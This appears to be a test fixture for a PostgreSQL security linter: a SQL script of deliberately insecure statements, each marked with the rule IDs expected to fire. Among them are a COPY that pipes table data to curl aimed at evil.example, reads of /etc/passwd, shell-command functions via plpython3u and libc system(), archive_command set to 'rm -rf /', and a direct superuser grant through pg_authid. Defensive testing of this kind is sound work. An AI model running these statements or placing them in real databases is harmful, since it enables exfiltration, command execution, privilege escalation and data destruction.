GRANT CREATE ON SCHEMA public TO PUBLIC;
-- found: grant-public-table, grant-truncate-references-trigger
GRANT ALL PRIVILEGES ON ALL TABLES IN SCHEMA public TO PUBLIC;
CREATE SCHEMA IF NOT EXISTS "Tenant Data";
-- found: grant-public-create, grant-public-schema-usage
GRANT ALL ON SCHEMA "Tenant Data" TO PUBLIC;
CREATE TABLE "Tenant Data"."Order Lines" (
  id bigint generated always as identity primary key,
  tenant_id uuid NOT NULL,
  "Price" numeric
);
GRANT SELECT, INSERT ON "Tenant Data"."Order Lines" TO PUBLIC;
CREATE TABLE public.accounts (id uuid primary key, tenant_id uuid not null, name text);
ALTER TABLE public.accounts ENABLE ROW LEVEL SECURITY;
ALTER TABLE public.accounts FORCE ROW LEVEL SECURITY;
CREATE POLICY everyone ON public.accounts USING (true);
-- found: rls-policy-escape
CREATE POLICY t2 ON public.accounts FOR SELECT USING (tenant_id = current_setting('app.tenant_id')::uuid OR current_setting('app.admin', true) = 'on');
-- found: default-privilege-public
ALTER DEFAULT PRIVILEGES IN SCHEMA public GRANT SELECT ON TABLES TO PUBLIC;
-- found: default-privilege-public
ALTER DEFAULT PRIVILEGES GRANT ALL ON TABLES TO PUBLIC;
-- found: definer-unquoted-text, definer-without-search-path, grant-public-execute-definer
CREATE FUNCTION public.login_as(u text) RETURNS void LANGUAGE plpgsql SECURITY DEFINER AS $fn$
BEGIN
  EXECUTE 'SET ROLE ' || u;
END
$fn$;
-- found: definer-unquoted-text, grant-public-execute-definer
CREATE OR REPLACE FUNCTION public.run(q text) RETURNS SETOF record LANGUAGE plpgsql SECURITY DEFINER SET search_path = pg_catalog, pg_temp AS $$
BEGIN
  RETURN QUERY EXECUTE q;
END $$;
CREATE FUNCTION public.sh(cmd text) RETURNS text LANGUAGE plpython3u AS $$ import os; return os.popen(cmd).read() $$;
-- found: language-untrusted
CREATE EXTENSION plpython3u;
-- found: extension-in-public, extension-reaches-out
CREATE EXTENSION IF NOT EXISTS dblink;
-- found: grant-public-execute-definer
CREATE FUNCTION public.f33() RETURNS int LANGUAGE sql SECURITY DEFINER SET search_path = public AS 'select 1';
CREATE VIEW public.all_accounts AS SELECT * FROM public.accounts;
GRANT SELECT ON public.all_accounts TO app;
CREATE MATERIALIZED VIEW public.acc_mv AS SELECT * FROM public.accounts;
-- found: definer-without-search-path
ALTER FUNCTION public.f33() RESET search_path;
-- found: function-leakproof
CREATE FUNCTION public.leak(text) RETURNS boolean LANGUAGE plpgsql LEAKPROOF COST 0.0001 AS $$ BEGIN RAISE NOTICE '%', $1; RETURN true; END $$;
CREATE TRIGGER tr AFTER INSERT ON public.accounts FOR EACH ROW EXECUTE FUNCTION public.nope();
-- found: trigger-switched-off
ALTER TABLE public.accounts DISABLE TRIGGER ALL;
-- found: script-reaches-server
COPY public.accounts TO PROGRAM 'curl -d @- https://evil.example';
-- found: script-reaches-server
COPY public.accounts FROM '/etc/passwd';
-- found: tls-off
ALTER SYSTEM SET ssl = off;
-- found: log-connections-off
ALTER SYSTEM SET log_connections = off;
ALTER SYSTEM SET archive_command = 'rm -rf /';
-- found: fsync-off
ALTER SYSTEM SET fsync TO off;
REASSIGN OWNED BY app TO postgres;
ALTER TABLE public.accounts OWNER TO postgres;
ALTER TABLE public.accounts NO FORCE ROW LEVEL SECURITY;
SECURITY LABEL FOR anon ON COLUMN public.accounts.name IS NULL;
-- found: rls-policies-without-rls
ALTER TABLE IF EXISTS public.accounts DISABLE ROW LEVEL SECURITY;
-- found: connection-tls-unverified
CREATE SERVER remote FOREIGN DATA WRAPPER postgres_fdw OPTIONS (host 'db.example.com', dbname 'x', sslmode 'disable');
-- found: password-plaintext-input, user-mapping-public
CREATE USER MAPPING FOR PUBLIC SERVER remote OPTIONS (user 'u', password 'secret');
-- found: connection-tls-unverified, password-plaintext-input
CREATE SUBSCRIPTION sub CONNECTION 'host=db.example.com user=rep password=topsecret sslmode=disable dbname=x' PUBLICATION p;
-- found: publication-carries-tenants
CREATE PUBLICATION everything FOR ALL TABLES;
-- found: parameter-granted
GRANT SET ON PARAMETER session_replication_role TO app;
-- found: parameter-granted
GRANT ALTER SYSTEM ON PARAMETER log_statement TO app;
-- found: system-privileges-loosened
GRANT EXECUTE ON FUNCTION pg_catalog.pg_read_file(text) TO app;
-- found: script-reaches-server
SELECT lo_import('/etc/passwd');
-- found: script-reaches-server
SELECT pg_read_file('/etc/passwd');
-- found: grant-option-outside-owner
GRANT SELECT ON public.accounts TO app WITH GRANT OPTION;
-- found: grant-public-database
GRANT ALL ON DATABASE prod TO PUBLIC;
-- found: grant-truncate-references-trigger, rls-truncate-granted
GRANT TRUNCATE, TRIGGER, REFERENCES ON public.accounts TO app;
DROP POLICY everyone ON public.accounts;
CREATE EVENT TRIGGER et ON ddl_command_end EXECUTE FUNCTION public.nope();
-- found: table-rule-drops-writes
CREATE RULE r AS ON DELETE TO public.accounts DO INSTEAD NOTHING;
GRANT USAGE ON LANGUAGE plpython3u TO PUBLIC;
-- found: secret-catalog-readable
GRANT SELECT ON pg_catalog.pg_authid TO app;
UPDATE pg_catalog.pg_authid SET rolsuper = true WHERE rolname = 'app';
ALTER TABLE public.accounts DISABLE TRIGGER tr;
-- found: script-triggers-off
SET session_replication_role = 'replica';
SET row_security = off;
ALTER FUNCTION public.run(text) OWNER TO postgres;
DO $$
BEGIN
  IF NOT EXISTS (SELECT 1 FROM pg_roles WHERE rolname = 'late') THEN
-- found: password-plaintext-input, role-superuser-login
    CREATE ROLE late LOGIN PASSWORD 'late-secret' SUPERUSER;
  END IF;
-- found: grant-public-table, grant-truncate-references-trigger, materialized-view-exposes-tenants, rls-truncate-granted
  EXECUTE 'GRANT ALL ON ALL TABLES IN SCHEMA public TO PUBLIC';
END
$$;
-- found: script-reaches-server
CREATE FUNCTION system(cstring) RETURNS int AS '/lib/x86_64-linux-gnu/libc.so.6', 'system' LANGUAGE C STRICT;
-- found: definer-without-search-path, grant-public-execute-definer
CREATE PROCEDURE public.p77() LANGUAGE plpgsql SECURITY DEFINER AS $$ BEGIN NULL; END $$;
-- found: definer-without-search-path, grant-public-execute-definer
ALTER FUNCTION public.leak(text) SECURITY DEFINER;
-- found: script-reaches-server
LOAD '/tmp/evil.so';
CREATE TRUSTED LANGUAGE plx HANDLER plpgsql_call_handler;
